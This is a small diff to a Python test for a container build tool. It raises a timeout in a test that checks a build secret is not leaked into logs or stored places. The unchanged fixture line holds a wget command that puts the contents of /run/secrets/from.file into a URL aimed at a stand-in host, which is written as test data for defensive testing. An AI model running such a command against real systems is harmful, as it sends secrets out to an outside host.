@@ -121,7 +121,7 @@ def test_a_secret_in_an_address_is_not_recorded(world: World, layouts: Layouts) 
         'busybox wget -q -O /page "http://192.0.2.1/$(cat /run/secrets/from.file)" || true\n'
     )
     lay_out(world, layouts, f"FROM localhost/base:1\n{run}")
-    done = world.rbuild("all", env={"RBUILD_ALLOW_LOOPBACK": "1"}, timeout=120)
+    done = world.rbuild("all", env={"RBUILD_ALLOW_LOOPBACK": "1"}, timeout=900)
     assert FROM_FILE not in done.stdout + done.stderr
     assert json.dumps(FROM_FILE) not in done.stderr
     assert places_that_hold(world, FROM_FILE) == []
